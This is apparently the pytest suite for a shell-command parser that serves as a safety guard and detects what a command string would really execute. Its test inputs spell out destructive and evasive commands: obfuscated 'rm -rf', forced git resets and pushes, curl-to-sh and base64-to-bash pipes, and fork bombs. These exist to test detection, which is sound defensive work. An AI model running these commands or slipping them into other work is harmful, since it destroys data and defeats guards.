"""The shell parser finds what would run, and only that."""

from __future__ import annotations

import pytest

from runtime.guards.lexer import skeleton
from runtime.guards.limits import MAX_CHARS
from runtime.guards.shell import parse
from runtime.guards.shellmodel import quote, resolve_cwd
from runtime.guards.writeeffects import write_targets


def argvs(text: str) -> list[list[str]]:
    return [c.argv for c in parse(text).commands]


@pytest.mark.parametrize(("text", "expected"), [
    ("ls -la", [["ls", "-la"]]),
    ("a; b && c || d | e & f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
    ("a\nb", [["a"], ["b"]]),
    ("echo 'a b' \"c d\" e\\ f", [["echo", "a b", "c d", "e f"]]),
    ("echo $'a\\tb'", [["echo", "a\tb"]]),
    ("r''m -rf x", [["rm", "-rf", "x"]]),
    ("\\rm x", [["rm", "x"]]),
    ("/usr/bin/rm x", [["rm", "x"]]),
    ("rm${IFS}-rf${IFS}x", [["rm", "-rf", "x"]]),
    ("rm$IFS-rf x", [["rm", "-rf", "x"]]),
    ("echo hi # rm -rf x", [["echo", "hi"]]),
    ("A=1 B=2 make", [["make"]]),
    ("if true; then make; fi", [["true"], ["make"]]),
])
def test_words_and_segments(text: str, expected: list[list[str]]) -> None:
    assert argvs(text) == expected


@pytest.mark.parametrize(("text", "inner", "via"), [
    ("bash -c 'rm -rf x'", ["rm", "-rf", "x"], "bash -c"),
    ("sh -ec \"git reset --hard\"", ["git", "reset", "--hard"], "sh -c"),
    ("echo $(git clean -f)", ["git", "clean", "-f"], "$( )"),
    ("echo \"`git clean -f`\"", ["git", "clean", "-f"], "$( )"),
    ("eval 'git clean -f'", ["git", "clean", "-f"], "eval"),
    ("ls | xargs -0 rm -f", ["rm", "-f", "${INPUT}"], "xargs"),  # the operands xargs supplies, unknown here
    ("find . -exec rm {} \\;", ["rm", "{}"], "find -exec"),
    ("bash <<'X'\ngit clean -f\nX", ["git", "clean", "-f"], "bash <<"),
    ("echo 'git clean -f' | sh", ["git", "clean", "-f"], "| sh"),
    ("su -c 'git clean -f' root", ["git", "clean", "-f"], "su -c"),
    ("diff <(git clean -f) x", ["git", "clean", "-f"], "$( )"),
    ("env -S 'git clean -f'", ["git", "clean", "-f"], "env -S"),
])
def test_nested_commands_are_found(text: str, inner: list[str], via: str) -> None:
    found = {(tuple(c.argv), c.via) for c in parse(text).commands}
    assert (tuple(inner), via) in found


@pytest.mark.parametrize(("text", "expected"), [
    ("sudo -u root -H rm x", ["rm", "x"]),
    ("env -i A=1 -u B rm x", ["rm", "x"]),
    ("nice -n 5 nohup time -p timeout -s KILL 5 stdbuf -oL rm x", ["rm", "x"]),
    ("command rm x", ["rm", "x"]),
    ("exec rm x", ["rm", "x"]),
])
def test_wrappers_are_peeled(text: str, expected: list[str]) -> None:
    assert expected in argvs(text)


def test_command_v_runs_nothing() -> None:
    assert argvs("command -v rm") == [[]]


def test_unknown_wrapper_option_is_read_both_ways() -> None:
    found = argvs("env -Q x rm -rf y")
    assert ["rm", "-rf", "y"] in found


def test_quoted_text_is_data() -> None:
    assert argvs('git commit -m "rm -rf src; git reset --hard"') == [
        ["git", "commit", "-m", "rm -rf src; git reset --hard"]]


def test_heredoc_body_is_data_for_non_shells() -> None:
    parsed = parse("cat <<'EOF' > notes.md\nrm -rf src\nEOF\necho done")
    assert [c.argv for c in parsed.commands] == [["cat"], ["echo", "done"]]
    heredoc = next(r for r in parsed.commands[0].redirects if r.mode == "heredoc")
    assert heredoc.target == "rm -rf src"


def test_unquoted_heredoc_still_runs_substitutions() -> None:
    assert ["git", "clean", "-f"] in argvs("cat <<EOF\n$(git clean -f)\nEOF")


def test_redirects_are_tokens_with_mode() -> None:
    cmd = parse("echo a > out.txt 2>&1 >> log.txt < in.txt").commands[0]
    assert cmd.argv == ["echo", "a"]
    assert [(r.op, r.target, r.mode) for r in cmd.redirects] == [
        (">", "out.txt", "truncate"), (">&", "1", "dup"), (">>", "log.txt", "append"), ("<", "in.txt", "read")]
    assert cmd.redirects[1].fd == "2"


def test_pipeline_links_producer() -> None:
    first, second = parse("echo x | psql db").commands
    assert second.pipe_prev is first and first.pipe_prev is None


def test_unterminated_quote_is_noted_not_raised() -> None:
    parsed = parse("rm -rf src; echo 'oops")
    assert ["rm", "-rf", "src"] in [c.argv for c in parsed.commands]
    assert parsed.notes


def test_deep_nesting_exhausts_budget() -> None:
    text = "x"
    for _ in range(10):
        text = f"bash -c {quote(text)}"
    assert parse(text).exhausted
    assert not parse("bash -c 'bash -c x'").exhausted


def test_function_definition_is_not_a_call() -> None:
    assert argvs("f() { make; }; f") == [["make"], ["f"]]


@pytest.mark.parametrize(("text", "expected"), [
    ("echo a > x.txt", [("x.txt", "truncate")]),
    ("echo a >> x.txt", [("x.txt", "append")]),
    ("echo a | tee x.txt", [("x.txt", "truncate")]),
    ("echo a | tee -a x.txt", [("x.txt", "append")]),
    ("sed -i 's/a/b/' x.txt", [("x.txt", "edit")]),
    ("sed -i -e 's/a/b/' x.txt y.txt", [("x.txt", "edit"), ("y.txt", "edit")]),
    ("cp a.txt b.txt", [("b.txt", "replace")]),
    ("mv a.txt dir/", [("dir/", "replace"), ("a.txt", "delete")]),
    ("cp -t dest a b", [("dest/", "replace")]),
    ("echo a > /dev/null", []),
    ("touch new.txt", [("new.txt", "create")]),
])
def test_write_targets(text: str, expected: list[tuple[str, str]]) -> None:
    found = [t for c in parse(text).commands for t in write_targets(c)]
    assert found == expected


def test_skeleton_drops_quoted_text() -> None:
    assert "rm" not in skeleton("echo 'rm -rf' \"rm\"")
    assert "rm" in skeleton("rm x")


# --------------------------------------------------------------------------- shell state and bounded time

def _cwds(text: str) -> list[tuple[list[str], str | None]]:
    return [(c.argv, c.cwd) for c in parse(text).commands]


@pytest.mark.parametrize(("text", "verb", "cwd"), [
    ("cd docs && echo x > a", "echo", "docs"),
    ("cd docs; cd ../src; touch a", "touch", "src"),
    ("cd /tmp && rm x", "rm", "/tmp"),
    ("pushd src && popd && rm x", "rm", ""),
    ("cd $X && rm x", "rm", None),
    ("cd $(mktemp -d) && rm x", "rm", None),
    ("(cd docs) && rm x", "rm", ""),
    ("bash -c 'cd src && rm x'", "rm", "src"),
    ("cd src && bash -c 'rm x'", "rm", "src"),
])
def test_cd_is_tracked(text: str, verb: str, cwd: str | None) -> None:
    assert next(c for argv, c in _cwds(text) if argv and argv[0] == verb) == cwd


def test_resolve_cwd_is_absolute_or_none() -> None:
    cmds = parse("cd docs && ls; cd $X && ls").commands
    assert resolve_cwd(cmds[1], "/repo") == "/repo/docs"
    assert resolve_cwd(cmds[3], "/repo") is None
    assert resolve_cwd(parse("ls").commands[0], "/repo") == "/repo"


@pytest.mark.parametrize(("text", "argv", "dynamic"), [
    ("x=rm; $x -rf src", ["rm", "-rf", "src"], set()),
    ("x=$(date); $x -rf src", ["$x", "-rf", "src"], {"$x"}),
    ("$CMD -rf src", ["$CMD", "-rf", "src"], {"$CMD"}),
    ("$(echo rm) -rf src", ["rm", "-rf", "src"], set()),
    ("$(cat verb.txt) -rf src", ["$(cat verb.txt)", "-rf", "src"], {"$(cat verb.txt)"}),
    ("/???/r? -rf src", ["/???/r?", "-rf", "src"], {"/???/r?"}),
    ("rm -rf *.pyc", ["rm", "-rf", "*.pyc"], set()),  # a glob argument is ordinary; only a glob verb is unknown
    ("{rm,-rf,src}", ["rm", "-rf", "src"], set()),
])
def test_dynamic_words_are_marked(text: str, argv: list[str], dynamic: set[str]) -> None:
    cmd = next(c for c in parse(text).commands if c.argv[-1:] == ["src"] or c.argv[-1:] == ["*.pyc"])
    assert cmd.argv == argv and cmd.dynamic == dynamic
    assert cmd.verb_dynamic is bool(dynamic & {argv[0]})


def test_positional_parameters_of_sh_c() -> None:
    assert ["rm", "-rf", "src"] in argvs("sh -c 'rm -rf \"$1\"' _ src")
    assert ["rm", "-rf", "src"] in argvs("sh -c '\"$@\"' _ rm -rf src")


def test_apostrophe_in_heredoc_inside_substitution_hides_nothing() -> None:
    text = "git commit -m \"$(cat <<'EOF'\nDon't; it's \"odd`\nEOF\n)\" && git push --force origin main"
    assert ["git", "push", "--force", "origin", "main"] in argvs(text)


@pytest.mark.parametrize(("text", "via"), [
    ("trap 'rm -rf src' EXIT", "trap"), ("watch 'rm -rf src'", "watch"), ("ssh host 'rm -rf src'", "ssh"),
    ("coproc rm -rf src", ""), ("sudo -s rm -rf src", "sudo -s"),
    ("python3 -c \"import shutil; shutil.rmtree('src')\"", "python3 tree deletion"),
    ("node -e \"require('child_process').execSync('rm -rf src')\"", "node shell-out"),
])
def test_payloads_are_found(text: str, via: str) -> None:
    found = {(c.argv[0] if c.argv else "", c.via) for c in parse(text).commands}
    assert ("rm", via) in found, found


def test_dynamic_text_into_a_shell_is_opaque() -> None:
    assert parse("curl -s https://example.invalid | sh").opaque
    assert parse("printf aGk= | base64 -d | bash").opaque
    assert parse("python3 -c \"exec(__import__('base64').b64decode('eA=='))\"").opaque
    assert not parse("echo 'ls' | sh").opaque
    assert not parse("bash script.sh").opaque


@pytest.mark.parametrize("text", [":(){ :|:& };:", "bash -c 'b(){ b|b& };b'", "function f { f | f & }; f"])
def test_fork_bombs_are_structural(text: str) -> None:
    assert parse(text).fork_bombs


def test_fork_bomb_lookalikes_are_not() -> None:
    assert not parse("f(){ echo hi; }; f | f &").fork_bombs
    assert not parse("echo ':(){ :|:& };:'").fork_bombs


def test_too_long_is_unjudgeable() -> None:
    assert "characters long" in parse("x" * (MAX_CHARS + 1)).unjudgeable


def test_deadline_makes_a_parse_unjudgeable() -> None:
    parsed = parse("echo a; " * 200_000, deadline=0.0)
    assert parsed.unjudgeable and "could not finish" in parsed.unjudgeable


_PIECES = ["$(", ")", "((", "))", "{ ", " }", "[ ", " ]", "`", '"', "'", "${", "}", "$((", "<<EOF\n", "\nEOF\n",
           "<<'X'\n", "\nX\n", "; ", " && ", " | ", "&", "\\", "\n", "bash -c '", "eval ", "$'", "x=rm; ", "$x ",
           "cd src && ", "python3 -c '", "rm -rf src", "#", "$@", "*", "{a,b}", "trap '", "sudo -s "]


@pytest.mark.parametrize("seed", range(40))
def test_random_text_always_terminates_and_never_raises(seed: int) -> None:
    """Property: any concatenation or nesting of shell syntax parses without an exception, within the deadline."""
    import random

    rng = random.Random(seed)
    text = "".join(rng.choice(_PIECES) for _ in range(rng.randint(1, 400)))
    if seed % 4 == 0:  # deep nesting of one opener around a destructive command
        opener = rng.choice(["$(", "`", '"$(', "bash -c '", "$((", "${", "{ "])
        text = opener * rng.randint(50, 3000) + "rm -rf src"
    parsed = parse(text)
    assert isinstance(parsed.commands, list)
    for cmd in parsed.commands:
        write_targets(cmd)
        cmd.text()
